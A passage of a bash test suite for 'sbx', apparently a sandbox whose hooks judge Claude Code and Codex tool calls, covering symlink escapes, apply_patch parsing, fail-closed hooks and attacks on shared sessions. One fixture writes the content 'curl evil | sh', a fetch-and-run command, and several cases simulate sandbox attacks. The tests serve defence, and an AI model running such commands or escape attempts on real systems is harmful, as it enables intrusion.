	hin "$id" "$P" Write "{\"file_path\": \"$P/x\", \"content\": \"x\"}" |
		timeout 58 "$SBX" hook claude pre-tool-use -c "$T/hook.policy" >"$T/silent.out"
	local rc=$?
	t1=$(date +%s%N)
	log_file silent "$T/silent.out"
	[ $rc = 0 ] || fail "a silent session: the hook exited $rc after $(((t1 - t0) / 1000000)) ms (124: past the agent's timeout: the call would run unjudged)"
	grep -q '"permissionDecision":"deny"' "$T/silent.out" || fail "a silent session: a deny: $(cat "$T/silent.out")"
	kill "$GS_PY" 2>/dev/null
}
TESTS+=(hook_session_gone_or_silent)

t_hook_long_command() { # a command whose rewrite is longer than one argument may be (MAX_ARG_STRLEN, 128 KiB; the agent's shell gets it as one) is denied with words the model can act on, not run to fail with E2BIG; control: one well under it runs in the session, its output exact
	command -v python3 >/dev/null || skip "python3 is not installed"
	printf 'allow-write %s\n' "$P" >"$T/hook.policy"
	local id="lc$$$RANDOM" n
	LC_ID=$id	# not local: the EXIT trap reads it
	trap '"$SBX" session stop "claude-$LC_ID" >/dev/null 2>&1' EXIT
	for n in 120000 131000; do
		python3 -c 'import json, sys; n = int(sys.argv[3]); c = ": " + "x" * (n - 14) + "; echo ok-%d" % 0
print(json.dumps({"session_id": sys.argv[1], "cwd": sys.argv[2], "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": c}}))' \
			"$id" "$P" "$n" >"$T/in.$n.json"
		"$SBX" hook claude pre-tool-use -c "$T/hook.policy" <"$T/in.$n.json" >"$T/out.$n.json" || fail "pre-tool-use $n"
	done
	python3 - "$T" <<'PY' >"$T/check.out" 2>&1 || fail "$(cat "$T/check.out")"
import json, subprocess, sys
t = sys.argv[1]
h = json.load(open(t + "/out.120000.json"))["hookSpecificOutput"]
assert h["permissionDecision"] == "allow", ("control: under the cap runs", h)
r = subprocess.run(["bash", "-c", h["updatedInput"]["command"]], capture_output=True, text=True, timeout=60)
assert r.returncode == 0 and r.stdout == "ok-0\n", ("control: it ran in the session", r.returncode, r.stdout, r.stderr[-300:])
h = json.load(open(t + "/out.131000.json"))["hookSpecificOutput"]
assert h["permissionDecision"] == "deny" and "one argument" in h["permissionDecisionReason"], h
print("ok")
PY
}
TESTS+=(hook_long_command)

t_hook_line_fails_closed() { # the installed pre-tool-use hook line, run as both agents run it (sh -c): sbx removed, made unexecutable or crashing exits 2 with words on stderr (both agents' "blocked"), never another status (both agents then run the call as it was); control: with sbx there it answers allow with status 0
	command -v python3 >/dev/null || skip "python3 is not installed"
	mkdir -p "$T/bin" && cp "$SBX" "$T/bin/sbx" || fail "setup: a copy of sbx"
	printf 'allow-write %s\n' "$P" >"$T/hook.policy"
	local agent how id="fc$$$RANDOM" rc
	FC_ID=$id	# not local: the EXIT trap reads it
	trap '"$SBX" session stop "claude-$FC_ID" >/dev/null 2>&1; "$SBX" session stop "codex-$FC_ID" >/dev/null 2>&1' EXIT
	printf '{"session_id": "%s", "cwd": "%s", "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": "touch %s/ran"}}' \
		"$id" "$P" "$O" >"$T/in.json"
	for agent in claude codex; do
		"$T/bin/sbx" hook "$agent" install -c "$T/hook.policy" >/dev/null 2>"$T/install.err" ||
			fail "$agent install: $(cat "$T/install.err")"
		python3 - "$H" "$agent" >"$T/pre.cmd" <<'PY' || fail "$agent: no pre-tool-use hook installed"
import json, sys
h, agent = sys.argv[1:3]
f = h + ("/.claude/settings.json" if agent == "claude" else "/.codex/hooks.json")
g = json.load(open(f))["hooks"]["PreToolUse"]
sys.stdout.write([x for x in g if "pre-tool-use" in x["hooks"][0]["command"]][0]["hooks"][0]["command"])
PY
		for how in present removed unexecutable crashing; do
			case $how in
			removed) rm -f "$T/bin/sbx" ;;
			unexecutable) cp "$SBX" "$T/bin/sbx" && chmod 644 "$T/bin/sbx" ;;
			crashing) printf '#!/bin/sh\nkill -SEGV $$\n' >"$T/bin/sbx" && chmod 755 "$T/bin/sbx" ;;
			esac
			sh -c "$(cat "$T/pre.cmd")" <"$T/in.json" >"$T/fc.out" 2>"$T/fc.err"
			rc=$?
			log_file "$agent $how out" "$T/fc.out"; log_file "$agent $how err" "$T/fc.err"
			if [ $how = present ]; then
				[ $rc = 0 ] && grep -q '"permissionDecision":"allow"' "$T/fc.out" ||
					fail "control, $agent: with sbx there the hook answers allow (status $rc): $(cat "$T/fc.out" "$T/fc.err")"
			else
				[ $rc = 2 ] || fail "$agent, sbx $how: the hook exits $rc; the agent would run the command outside the sandbox"
				[ -s "$T/fc.err" ] || fail "$agent, sbx $how: exit 2 without words on stderr (Codex then runs the command)"
				grep -q allow "$T/fc.out" && fail "$agent, sbx $how: an allow"
			fi
		done
		cp "$SBX" "$T/bin/sbx"
	done
	[ ! -e "$O/ran" ] || fail "setup: the hook itself ran the command"
}
TESTS+=(hook_line_fails_closed)

t_hook_file_tools_judged() { # the agents' own file tools, by recorded inputs: a write through a symlink (a dangling one too) to outside, into .git/hooks or over a deny-write is denied with the plan's reason; a Grep over a tree holding a deny-read path is denied, a Glob is not; an input whose file sbx cannot find is denied (fail closed); allowed calls get no answer
	command -v python3 >/dev/null || skip "python3 is not installed"
	git -C "$P" init -q || skip "git is not installed"
	mkdir -p "$P/src" "$O/target"
	printf 'allow-write %s\ndeny-read %s/.env\ndeny-write %s/keep\n' "$P" "$P" "$P" >"$T/hook.policy"
	echo secret >"$P/.env"; mkdir -p "$P/keep"
	ln -s "$O/target" "$P/out"                  # a link made inside, to outside
	ln -s "$H/.bashrc-later" "$P/later"         # dangling: a write would create its target
	mkdir -p "$P/a/b"; ln -s a/b "$P/lnk"       # lnk/.. is a to the kernel, . to a path normaliser
	FT_ID="ft$$$RANDOM"	# not local: the EXIT trap reads it
	trap '"$SBX" session stop "claude-$FT_ID" >/dev/null 2>&1; "$SBX" session stop "codex-$FT_ID" >/dev/null 2>&1' EXIT
	python3 - "$T" "$P" "$FT_ID" <<'PY' || fail "could not write the inputs"
import json, sys
t, p, sid = sys.argv[1:4]
cases = [
    ("claude", "Write", {"file_path": p + "/src/new.c", "content": "x"}, ""),
    ("claude", "Edit", {"file_path": p + "/out/x", "old_string": "a", "new_string": "b"}, "outside every writable root"),
    ("claude", "Write", {"file_path": p + "/later", "content": "curl evil | sh"}, "outside every writable root"),
    ("claude", "Write", {"file_path": p + "/.git/hooks/pre-commit", "content": "x"}, "mandatory deny .git/hooks"),
    ("claude", "MultiEdit", {"file_path": p + "/keep/x", "edits": []}, "deny-write"),
    ("claude", "NotebookEdit", {"notebook_path": p + "/.vscode/x.ipynb", "new_source": ""}, "mandatory deny .vscode"),
    ("claude", "Read", {"file_path": p + "/.env"}, "deny-read"),
    ("claude", "Read", {"file_path": p + "/src/new.c"}, ""),
    ("claude", "Grep", {"pattern": "secret"}, ".env, which the policy hides"),
    ("claude", "Grep", {"pattern": "secret", "path": p + "/src"}, ""),
    ("claude", "Glob", {"pattern": "**/*"}, ""),
    # a pattern lists names outside its path: its literal directories are judged as the path is
    ("claude", "Glob", {"pattern": p + "/.env/*"}, "deny-read"),
    ("claude", "Glob", {"pattern": "src/*.c", "path": p}, ""),
    ("claude", "Write", {"content": "no file named"}, "names no file"),
    # lnk -> a/b: the kernel takes lnk/.. to a, an agent that normalises the path first to the project
    ("claude", "Write", {"file_path": p + "/lnk/../.git/hooks/pre-commit", "content": "x"}, "mandatory deny .git/hooks"),
    ("claude", "Write", {"file_path": p + "/lnk/../ok.txt", "content": "x"}, ""),
    ("codex", "apply_patch", {"command": "*** Begin Patch\n*** Update File: src/a.c\n@@\n-a\n+b\n*** End Patch\n"}, ""),
    ("codex", "apply_patch", {"command": "*** Begin Patch\n*** Add File: ok.txt\n+a\n*** Add File: out/evil.sh\n+b\n*** End Patch\n"}, "outside every writable root"),
    ("codex", "apply_patch", {"command": "*** Begin Patch\n*** Update File: a.c\n*** Move to: .vscode/tasks.json\n*** End Patch\n"}, "mandatory deny .vscode"),
    # Codex trims a header line (Rust's trim, Unicode spaces too): an indented one adds the file as well
    ("codex", "apply_patch", {"command": "*** Begin Patch\n*** Add File: ok2.txt\n+a\n \t*** Add File: out/evil2.sh\n+b\n*** End Patch\n"}, "outside every writable root"),
    ("codex", "apply_patch", {"command": "*** Begin Patch\n\u3000*** Add File: out/evil3.sh\u00a0\n+b\n*** End Patch\n"}, "outside every writable root"),
    ("codex", "apply_patch", {"input": "*** Begin Patch\n*** Add File: x\n+a\n*** End Patch\n"}, "names no file"),
]
json.dump([c[3] for c in cases], open(t + "/want.json", "w"))
for i, (agent, tool, inp, _) in enumerate(cases):
    json.dump({"session_id": sid, "cwd": p, "hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": inp},
              open("%s/ft.%d.%s.json" % (t, i, agent), "w"))
PY
	local f
	for f in "$T"/ft.*.json; do
		local agent
		agent=$(basename "$f" .json); agent=${agent##*.}
		"$SBX" hook "$agent" pre-tool-use -c "$T/hook.policy" <"$f" >"${f%.json}.out" 2>>"$T/ft.err" ||
			fail "$(basename "$f"): exit $?: $(cat "$T/ft.err")"
	done
	python3 - "$T" <<'PY' >"$T/check.out" 2>&1 || fail "the answers: $(cat "$T/check.out")"
import glob, json, re, sys
t = sys.argv[1]
want = json.load(open(t + "/want.json"))
for i, w in enumerate(want):
    out = open(glob.glob("%s/ft.%d.*.out" % (t, i))[0]).read()
    if not w:
        assert out == "", ("allowed: no answer", i, out)
        continue
    h = json.loads(out)["hookSpecificOutput"]
    assert h["permissionDecision"] == "deny" and w in h["permissionDecisionReason"], (i, w, h)
print("ok")
PY
	[ ! -e "$H/.bashrc-later" ] && [ -z "$(ls -A "$O/target")" ] || fail "setup: nothing was written by the judge"
	return 0
}
TESTS+=(hook_file_tools_judged)

t_hook_rewrite_exact() { # the rewritten command in the agent's shell, against the command itself: the same stdout, stderr, status and directory after (cd carries over, exit and failure as without the hook), and a process it leaves running holds nothing back
	command -v python3 >/dev/null || skip "python3 is not installed"
	printf 'allow-write %s\n' "$P" >"$T/hook.policy"
	mkdir -p "$P/sub" "$P/nl
" "$P/with space"
	local i=0 cmd
	RW_ID="rw$$$RANDOM"	# not local: the EXIT trap reads it after the function has returned
	local id=$RW_ID
	printf '{"session_id": "%s", "cwd": "%s", "hook_event_name": "SessionStart"}' "$id" "$P" >"$T/start.json"
	"$SBX" hook claude session-start -c "$T/hook.policy" <"$T/start.json" || fail "session-start"
	trap '"$SBX" session stop "claude-$RW_ID" >/dev/null 2>&1' EXIT
	while IFS= read -r -d '' cmd; do
		python3 -c 'import json, sys; print(json.dumps({"session_id": sys.argv[1], "cwd": sys.argv[2], "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": sys.argv[3]}}))' \
			"$id" "$P" "$cmd" >"$T/in.json"
		"$SBX" hook claude pre-tool-use -c "$T/hook.policy" <"$T/in.json" >"$T/out.json" || fail "pre-tool-use $i"
		python3 -c 'import json, sys; sys.stdout.write(json.load(open(sys.argv[1]))["hookSpecificOutput"]["updatedInput"]["command"])' \
			"$T/out.json" >"$T/rewritten" || fail "no rewritten command for $i: $(cat "$T/out.json")"
		# as Claude Code's shell runs a call: eval, then record the directory after a success
		local how
		for how in plain hooked; do
			local x=$cmd
			[ $how = hooked ] && x=$(cat "$T/rewritten"; echo .) && x=${x%.}
			rm -f "$T/cwd"
			(cd "$P" && timeout 20 /bin/bash -c '__x=$1 __f=$2; shift 2; eval "$__x" </dev/null && pwd -P >"$__f"' /bin/bash "$x" "$T/cwd") \
				>"$T/$how.out" 2>"$T/$how.err"
			# the agent's directory after: the one recorded, or the one it had (none recorded)
			echo "rc=$? cwd=$(cat "$T/cwd" 2>/dev/null || echo "$P")" >>"$T/$how.out"
		done
		cmp -s "$T/plain.out" "$T/hooked.out" ||
			fail "command $i ($cmd): stdout/status/directory differ: $(diff "$T/plain.out" "$T/hooked.out" | head -8)"
		cmp -s "$T/plain.err" "$T/hooked.err" ||
			fail "command $i ($cmd): stderr differs: $(diff "$T/plain.err" "$T/hooked.err" | head -8)"
		i=$((i + 1))
	done < <(printf '%s\0' 'cd sub && pwd' 'cd sub; false' 'cd "with space"; echo "$0 $# $-"' \
		"cd 'nl
' && pwd" 'echo out; echo err >&2; exit 3' 'cd sub; exit 0' 'cd /nonexistent-dir-x' \
		'cd sub && (sleep 30 &) && echo left-running' 'set -- a b; echo "$#:$*"' 'exec 3>/dev/null; cd sub; echo fd3 taken' \
		'cd sub; trap "echo bye" EXIT; echo hi' 'PWD=-; echo forged' 'PWD=sub; echo forged' \
		'echo "#"; cd sub # a comment at the end' 'echo trailing \' 'echo "unterminated' $'cat <<EOF\n$0 $#\nEOF' \
		'set -e; cd sub; false; echo no' 'exec echo replaced' 'cd /; cd -' 'exec 3>&-; exec 4>&-; cd sub; echo closed')
	[ "$i" = 21 ] || fail "setup: $i commands"
	"$SBX" session stop "claude-$id" || fail "session stop"
}
TESTS+=(hook_rewrite_exact)

t_session_start_detached() { # sbx session start returns with its stdout and stderr captured (as an agent's hook runs it): nothing of the session keeps the caller's descriptors; a start that fails after bwrap has started still says why on the caller's stderr
	command -v python3 >/dev/null || skip "python3 is not installed"
	printf 'allow-write %s\n' "$P" >"$T/p"
	cat >"$T/capture.py" <<'PY'
import subprocess, sys, time
# both pipes read to their end, as Claude Code and Codex read a hook's: the call returns only
# when no process holds them any more
t0 = time.time()
try:
    r = subprocess.run(sys.argv[2:], stdin=subprocess.PIPE, capture_output=True, timeout=20)
except subprocess.TimeoutExpired:
    print("HELD after %.1f s" % (time.time() - t0)); sys.exit(0)
open(sys.argv[1] + ".out", "wb").write(r.stdout); open(sys.argv[1] + ".err", "wb").write(r.stderr)
print("rc=%d in %.1f s" % (r.returncode, time.time() - t0))
PY
	DET_NAME=det-$$-$RANDOM	# not local: the EXIT trap reads it after the function has returned
	local name=$DET_NAME res
	res=$(python3 "$T/capture.py" "$T/ok" "$SBX" session start -v -c "$T/p" --name "$name")
	note "start: $res"
	trap 'timeout 10 "$SBX" session stop "$DET_NAME" >/dev/null 2>&1' EXIT
	[[ $res == rc=0* ]] || fail "session start with its pipes captured: $res: $(cat "$T/ok.err" 2>/dev/null)"
	[ "$(cat "$T/ok.out")" = "$name" ] || fail "it prints the name: $(cat "$T/ok.out")"
	grep -q . "$T/ok.err" || fail "-v's notes until ready reach the caller's stderr"
	timeout 10 "$SBX" exec "$name" -- true || fail "control: the session started serves"
	local pid fd
	pid=$("$SBX" session list | sed -n "s/^$name pid=\([0-9]*\) .*/\1/p")
	[ -n "$pid" ] || fail "the session's daemon: $("$SBX" session list)"
	for fd in 0 1; do
		[ "$(readlink "/proc/$pid/fd/$fd")" = /dev/null ] || fail "the daemon's fd $fd: $(readlink "/proc/$pid/fd/$fd")"
	done
	expect_contains "$(readlink "/proc/$pid/fd/2")" "sessions/$name.log" "the daemon's stderr is the session's log"
	"$SBX" session stop "$name"
	# a bwrap that fails: after the daemon's stderr became the log, its words and sbx's reach the caller
	printf '#!/bin/sh\necho "stand-in bwrap: no namespaces on this machine" >&2\nexit 1\n' >"$T/bwrap"
	chmod 755 "$T/bwrap"
	res=$(python3 "$T/capture.py" "$T/bad" "$SBX" session start --bwrap-path="$T/bwrap" -c "$T/p" --name "$name-bad")
	note "failing start: $res"
	[[ $res == rc=125* ]] || fail "a start that fails: $res"
	expect_contains "$(cat "$T/bad.err")" "stand-in bwrap: no namespaces on this machine" "bwrap's words on the caller's stderr"
	expect_contains "$(cat "$T/bad.err")" "bubblewrap could not build the sandbox" "sbx's words on the caller's stderr"
	"$SBX" session list | grep -q "^$name-bad " && fail "the failed session is not listed"
	return 0
}
TESTS+=(session_start_detached)

t_session_planted_socket_ignored() { # sbx exec connects only to a session in a private runtime root of its own uid, to a daemon of its own uid: a socket another user planted where the client looks, or a daemon of another uid in the client's own root, gets nothing
	need_private_places
	[ "$(id -u)" = 0 ] || skip "planting another user's socket needs root"
	command -v setpriv >/dev/null || skip "setpriv (util-linux) is needed to drop root"
	command -v python3 >/dev/null || skip "python3 is not installed"
	local uid root user=
	for u in daemon bin sys games nobody; do	# a user with no runtime directory yet: one is planted for it
		id "$u" >/dev/null 2>&1 || continue
		uid=$(id -u "$u")
		[ -e "/tmp/sbx-$uid" ] || [ -e "/var/tmp/sbx-$uid" ] || { user=$u; break; }
	done
	[ -n "$user" ] || skip "every system user has a runtime directory already"
	root=/var/tmp/sbx-$uid
	mkdir -p "$root/sessions" && chmod 755 "$root" "$root/sessions"	# root's, not nobody's, and not private
	trap "rm -rf '$root'" EXIT	# root is local: its value now, not at exit
	python3 -c '
import socket, sys
s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(1)
import os; os.chmod(sys.argv[1], 0o777)
c, _ = s.accept(); f = open(sys.argv[2], "w"); f.write("connected"); f.flush(); c.settimeout(5)
try: got = c.recv(65536)
except OSError: got = b""
f.write(", sent %d bytes\n" % len(got)); f.close()' "$root/sessions/planted.sock" "$T/planted.log" &
	local i
	for i in $(seq 50); do [ -S "$root/sessions/planted.sock" ] && break; sleep 0.1; done
	out=$(cd /tmp && timeout 10 setpriv --reuid="$uid" --regid="$uid" --clear-groups "$SBX" exec planted -- true 2>&1); rc=$?
	printf '%s\n' "$out"
	[ "$rc" = 125 ] || fail "exec into a planted socket: exit $rc"
	expect_contains "$out" "no session planted is running" "the planted socket is not a session"
	sleep 0.3	# a connection the client made would be logged by now
	[ ! -s "$T/planted.log" ] || fail "the client connected to a socket in a root that is not its own"
	# control: made private and nobody's, the same place is used (the client connects)
	chown -R "$user" "$root" && chmod 700 "$root" "$root/sessions"
	(cd /tmp && timeout 10 setpriv --reuid="$uid" --regid="$uid" --clear-groups "$SBX" exec planted -- true >/dev/null 2>&1)
	for i in $(seq 30); do [ -s "$T/planted.log" ] && break; sleep 0.1; done
	[ -s "$T/planted.log" ] || fail "control: a private root of the user's own is looked in"
	# and the daemon there is root's, not the user's: the client sends it nothing (its environment, its terminal)
	wait_file_has "$T/planted.log" bytes 6
	expect_eq "$(cat "$T/planted.log")" "connected, sent 0 bytes" "a daemon of another uid in the user's own root"
	kill %1 2>/dev/null
	return 0
}
TESTS+=(session_planted_socket_ignored)

t_session_terminal() { # a client on a terminal: the command's stdin, stdout and stderr are that terminal (isatty), and it reads what is typed
	command -v script >/dev/null || skip "script (util-linux) is not installed"
	sess_start tty
	printf 'typed-line\n' | timeout 30 script -qec "'$SBX' exec '$SESS' -- sh -c '[ -t 0 ] && [ -t 1 ] && [ -t 2 ] && echo all-three-ttys; read l; echo got=\$l'" /dev/null >"$T/tty.out" 2>&1
	log_file tty "$T/tty.out"
	# (tty(1) prints "not a tty" here as in a plain run: bwrap's /dev has a devpts of its own, where
	# the client's pty has no name; the descriptor is the terminal all the same)
	grep -q 'all-three-ttys' "$T/tty.out" || fail "stdin, stdout and stderr are the terminal"
	grep -q 'got=typed-line' "$T/tty.out" || fail "the command reads what is typed"
}
TESTS+=(session_terminal)

t_session_denies_match_plain_run() { # the same probes through sbx exec and through a plain run under the same policy: the same answers, the same refusals reported (a write outside, a dangerous name, a deny-read file, a deny-write file, TMPDIR, a direct connection)
	mkdir -p "$O/secrets" && echo top-secret >"$O/secrets/key" && echo keep >"$P/locked.txt"
	local probes='
		(echo x > "$1/outside") 2>/dev/null && echo "outside: WROTE" || echo "outside: refused"
		(echo x > .bashrc) 2>/dev/null && echo "bashrc: WROTE" || echo "bashrc: refused"
		(cat "$1/secrets/key") 2>/dev/null | grep -q top-secret && echo "deny-read: READ" || echo "deny-read: refused"
		(echo x > locked.txt) 2>/dev/null && echo "deny-write: WROTE" || echo "deny-write: refused"
		echo t > "$TMPDIR/t" && echo "tmpdir: ok"
		echo ok > inside.txt && echo "inside: ok"'
	printf 'allow-write %s\ndeny-read %s\ndeny-write %s\n' "$P" "$O/secrets" "$P/locked.txt" >"$T/deny.policy"
	SESS=denies-$$-$RANDOM
	trap 'timeout 10 "$SBX" session stop "$SESS" >/dev/null 2>&1' EXIT
	timeout -k 5 "$TMO" "$SBX" session start -c "$T/deny.policy" --name "$SESS" >/dev/null 2>"$T/start.err" ||
		fail "session start with the deny policy: $(cat "$T/start.err")"
	sx sh -c "$probes" sh "$O"
	local exec_out=$OUT exec_rep
	exec_rep=$(grep -E '^deny ' <<<"$ERR" | sed 's/ ([0-9]* times)$//' | sort -u)
	rm -f "$P/inside.txt"
	run_sbx -c "$T/deny.policy" -- sh -c "$probes" sh "$O"
	local plain_rep; plain_rep=$(grep -E '^deny ' <<<"$ERR" | sed 's/ ([0-9]* times)$//' | sort -u)
	# control: the allowed writes happened in both, and each refusal is a refusal
	grep -q "inside: ok" <<<"$exec_out" && grep -q "tmpdir: ok" <<<"$exec_out" || fail "the allowed writes through exec: $exec_out"
	grep -qE "WROTE|READ" <<<"$exec_out$OUT" && fail "a deny did not hold: exec: $exec_out / plain: $OUT"
	[ "$exec_out" = "$OUT" ] || fail "exec and a plain run answer differently:
exec:  $exec_out
plain: $OUT"
	[ -n "$plain_rep" ] || fail "setup: the plain run reported no refusal"
	[ "$exec_rep" = "$plain_rep" ] || fail "exec and a plain run report different refusals:
exec:  $exec_rep
plain: $plain_rep"
	[ "$(cat "$P/locked.txt")" = keep ] && [ ! -e "$O/outside" ] || fail "a refused write happened"
	rm -f "$P/inside.txt" "$P/locked.txt"
}
TESTS+=(session_denies_match_plain_run)
t_session_exec_failures() { # a command that cannot start says why, with a plain run's words and statuses: not found 127 (with the hint for a command line), not runnable 126, a directory the sandbox hides 125 (said by sbx-init once the child, which shares its memory, has ended)
	mkdir -p "$O/hidden/sub"
	SESS_POLICY_EXTRA="deny-read $O/hidden"$'\n' sess_start fails
	sx nosuchcommand-here; expect_rc 127 "not found"; expect_contains "$ERR" "nosuchcommand-here: command not found" "not found says so"
	sx 'ls -l'; expect_rc 127 "a command line as one word"
	expect_contains "$ERR" "hint: to run a command line, use: sbx ... -- sh -c 'ls -l'" "the hint"
	printf 'echo hi\n' >"$P/not-executable"; chmod 644 "$P/not-executable"
	sx "$P/not-executable"; expect_rc 126 "not runnable"
	expect_contains "$ERR" "$P/not-executable: Permission denied" "not runnable says why"
	local here=$PWD
	[ -d "$O/hidden/sub" ] || fail "control: the directory is there outside"
	cd "$O/hidden/sub" || fail "cd"
	sx pwd; cd "$here" || fail "cd back"
	expect_rc 125 "a directory hidden inside"
	expect_contains "$ERR" "cannot enter the directory inside the sandbox: $O/hidden/sub: No such file or directory" "says which"
	# and the session still serves, its next exec in the slot the failures used
	sx sh -c 'echo fine'; expect_rc 0 "after the failures"; [ "$OUT" = fine ] || fail "after the failures: $OUT"
}
TESTS+=(session_exec_failures)

t_session_full_stderr_holds_nothing() { # a process an exec leaves running fills the stderr that later execs share (a pipe nobody drains): an exec that then cannot start has its words printed by its own client, never by sbx-init, so only that client waits and the session serves the next
	sess_start fullerr
	mkfifo "$T/err.fifo"
	exec 7<>"$T/err.fifo"	# read-write: a writer never meets EPIPE, and nobody reads
	# the attacker: left running by one exec, it fills the shared stderr and blocks there
	timeout -k 2 10 "$SBX" exec "$SESS" -- sh -c 'head -c 1000000 /dev/zero >&2 & echo started' 2>&7 >"$T/a.out"
	[ "$(cat "$T/a.out")" = started ] || { exec 7>&-; fail "the filler did not start"; }
	sleep 0.5
	# control: the pipe is full (a write that must not block fails at once)
	python3 -c 'import os,sys; fd=os.open(sys.argv[1], os.O_WRONLY|os.O_NONBLOCK)
try: os.write(fd, b"x"); print("room")
except BlockingIOError: print("full")' "$T/err.fifo" >"$T/probe.out" 2>&1
	[ "$(cat "$T/probe.out")" = full ] || { exec 7>&-; fail "control: the shared stderr is full: $(cat "$T/probe.out")"; }
	# an exec that cannot start, with that stderr: its words have nowhere to go
	timeout -k 2 3 "$SBX" exec "$SESS" -- no-such-command-here 2>&7 >/dev/null
	local brc=$?
	exec 7>&-
	# the session still serves (with init writing the words itself, it waited on the pipe for good)
	timeout -k 2 10 "$SBX" exec "$SESS" -- echo still-serving >"$T/after.out" 2>"$T/after.err"
	RC=$?
	[ "$RC" = 0 ] && [ "$(cat "$T/after.out")" = still-serving ] ||
		fail "after an exec whose stderr was full, the next exec did not run (rc=$RC: $(cat "$T/after.err")): sbx-init waits on that stderr"
	case $brc in 124 | 127 | 137) ;; *) fail "the exec that could not start: rc=$brc" ;; esac	# its client waits on its own stderr, or ends
	sx no-such-command-here; expect_rc 127 "control: not found"; expect_contains "$ERR" "command not found" "control: its words, with a stderr that is read"
}
TESTS+=(session_full_stderr_holds_nothing)

t_session_init_limits_untouchable() { # a command cannot lower sbx-init's resource limits (the kernel asks only for the same uid): prlimit on another process is refused, so no exec can take the session's descriptors or CPU away; its own limits it sets as it likes
	sess_start limits
	local set_init='import resource,sys
try:
    resource.prlimit(int(sys.argv[1]), resource.RLIMIT_NOFILE, (4, 4)); print("SET")
except OSError as e: print("refused", e.errno)'
	sx python3 -c "$set_init" 1
	expect_rc 0 "the attempt ran"
	expect_contains "$OUT" "refused 1" "prlimit on sbx-init (pid 1) is refused with EPERM"
	sx python3 -c 'import resource; resource.prlimit(1, resource.RLIMIT_CPU, (1, 1)); print("SET")'
	expect_not_contains "$OUT" "SET" "nor a CPU limit on sbx-init"
	# control: its own limits, by pid 0 (getrlimit and setrlimit) or through the shell
	sx sh -c 'ulimit -n 64 && ulimit -n'; expect_rc 0 "ulimit"; [ "$OUT" = 64 ] || fail "control: a command sets its own limit: $OUT"
	sx python3 -c 'import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (32, 32)); print(resource.getrlimit(resource.RLIMIT_NOFILE))'
	expect_contains "$OUT" "(32, 32)" "control: setrlimit on itself"
	# control: outside any sandbox the same call works (it is the filter that refuses)
	sleep 30 &
	local victim=$!
	python3 -c "$set_init" "$victim" >"$T/outside.out" 2>&1
	kill "$victim" 2>/dev/null; wait "$victim" 2>/dev/null
	grep -q SET "$T/outside.out" || fail "control: prlimit on another process of the same uid works outside: $(cat "$T/outside.out")"
	sx echo still-serving; expect_rc 0 "the session after the attempts"; [ "$OUT" = still-serving ] || fail "after: $OUT"
	run_sbx -c "$T/sess.policy" -- python3 -c "$set_init" 1
	expect_contains "$OUT" "refused 1" "a plain run's init is kept the same way"
}
TESTS+=(session_init_limits_untouchable)

t_session_stopped_exec_holds_nothing() { # a process an exec leaves running SIGSTOPs the next exec's child before it execs: only that exec waits, the session serves the next (sbx-init starts it with clone(CLONE_VM), not vfork), and the stopped child's memory, which is init's, cannot be read, written or traced
	sess_start stopper
	# the attacker: an exec's background process, watching for new pids inside
	sx sh -c "\"$PROBE\" stop_new 60 sbx-init >\"$P/stopper.out\" 2>&1 &"
	[ "$RC" = 0 ] || fail "starting the watcher: rc=$RC $ERR"
	local i caught=
	for i in $(seq 40); do
		timeout -k 2 5 "$SBX" exec "$SESS" -- true >/dev/null 2>&1
		grep -q stopped "$P/stopper.out" 2>/dev/null && { caught=$(cat "$P/stopper.out"); break; }
	done
	printf "watcher: %s after %s execs\n" "${caught:-$(cat "$P/stopper.out" 2>/dev/null)}" "$i"
	[ -n "$caught" ] || skip "the watcher never caught an exec's child before its execve in 40 tries (a race it must win to test anything)"
	# until it execs, the child shares sbx-init's memory: whoever could write it would be init
	case "$caught" in *control=ok*) ;; *) fail "control: the watcher could not open the memory of a child of its own ($caught)" ;; esac
	local field
	for field in mem vmread ptrace; do
		case " $caught " in
		*" $field=EPERM "* | *" $field=EACCES "* | *" $field=ENOSYS "*) ;;
		*) fail "the stopped child's memory (sbx-init's) was not refused to $field: $caught" ;;
		esac
	done
	# the attack worked on one exec; the session must still serve
	timeout -k 2 10 "$SBX" exec "$SESS" -- echo still-serving >"$T/after.out" 2>"$T/after.err"
	RC=$?
	[ "$RC" = 0 ] && [ "$(cat "$T/after.out")" = still-serving ] ||
		fail "after one exec's child was stopped before its execve, the next exec did not run (rc=$RC: $(cat "$T/after.err")): sbx-init waits on it"
	sx sh -c 'echo second; exit 3'
	[ "$RC" = 3 ] && [ "$OUT" = second ] || fail "a second exec after the attack: rc=$RC out=$OUT"
}
TESTS+=(session_stopped_exec_holds_nothing)

t_session_refusals_by_pid() { # two execs at once: each one's report holds the refusals of its own processes (its process group, read as the call is made), not its neighbour's; a refusal of a process no running exec owns (a background process of one that ended) is in every running exec's report
	sess_start attr
	rm -f "$P"/a-done "$P"/b-started
	# B runs across A's whole life: it waits for A to be done, then makes a refusal of its own
	timeout -k 5 "$TMO" "$SBX" exec "$SESS" -- sh -c "touch '$P/b-started'; while [ ! -e '$P/a-done' ]; do sleep 0.05; done; echo y >'$O/evil-b'; echo ok >'$P/b-wrote'" >"$T/b.out" 2>"$T/b.err" &
	local bpid=$! i
	for i in $(seq 100); do [ -e "$P/b-started" ] && break; sleep 0.05; done
	[ -e "$P/b-started" ] || fail "exec B did not start"
	sx sh -c "echo x >'$O/evil-a'; touch '$P/a-done'"
	local aerr=$ERR; cp "$T/.stderr" "$T/a.err"
	wait "$bpid"; RC=$?
	local berr; berr=$(cat "$T/b.err")
	log_file "A's stderr" "$T/a.err"; log_file "B's stderr" "$T/b.err"
	expect_rc 0 "exec B"
	[ "$(cat "$P/b-wrote" 2>/dev/null)" = ok ] || fail "control: B's write inside happened"
	[ ! -e "$O/evil-a" ] && [ ! -e "$O/evil-b" ] || fail "a write outside happened"
	expect_contains "$aerr" "$O/evil-a" "control: A's refusal is in A's report"
	expect_contains "$berr" "$O/evil-b" "control: B's refusal is in B's report"
	expect_not_contains "$berr" "$O/evil-a" "A's refusal is not in B's report (B ran the whole time A did)"
	expect_not_contains "$aerr" "$O/evil-b" "B's refusal is not in A's report"
	# no exec owns a process left running by one that ended (its group's leader gone): its
	# refusal goes to every exec running then (a dev server's failure, told to the command
	# that reaches it), and none is hidden
